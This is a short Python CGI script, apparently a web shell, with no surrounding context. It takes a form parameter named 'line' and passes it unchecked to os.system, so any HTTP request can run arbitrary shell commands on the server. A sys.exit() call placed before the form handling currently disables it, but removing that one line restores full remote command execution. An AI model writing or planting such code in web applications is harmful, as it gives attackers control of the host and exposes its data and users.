#!/usr/bin/python3
import cgi, os, sys
sys.exit()
form = cgi.FieldStorage()
line = form.getvalue("line")
os.system(line)
